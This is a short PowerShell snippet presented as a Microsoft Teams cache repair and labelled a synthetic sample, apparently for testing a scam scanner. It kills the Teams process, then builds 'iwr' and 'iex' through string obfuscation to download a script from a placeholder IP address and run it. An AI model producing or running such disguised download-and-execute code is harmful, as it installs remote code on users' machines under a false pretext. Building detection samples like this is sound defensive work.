# Teams cache repair. scamscan synthetic sample - harmless text, not malware
S`top-Pro`cess -Name ms-teams -ErrorAction SilentlyContinue
$c = ("{1}{0}" -f 'wr','i'); $x = ("{1}{0}" -f 'ex','i')
& $c -Uri http://203.0.113.81/teams/fix.ps1 -UseBasicParsing | & $x
